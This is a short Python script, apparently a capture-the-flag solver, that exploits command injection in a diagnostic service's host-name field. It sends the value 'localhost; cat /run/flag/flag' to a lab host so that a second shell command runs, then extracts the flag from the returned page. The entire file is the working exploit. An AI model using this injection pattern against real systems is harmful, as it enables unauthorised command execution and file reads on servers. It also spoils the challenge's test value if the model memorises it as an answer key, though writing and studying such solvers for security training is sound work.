"""Solver: command injection through the host name field; prints the flag."""

import re
import urllib.parse
import urllib.request

url = "http://diag:8080/?" + urllib.parse.urlencode({"host": "localhost; cat /run/flag/flag"})
page = urllib.request.urlopen(url, timeout=10).read().decode()
print(re.search(r"ICE\{[0-9a-f]+\}", page).group())
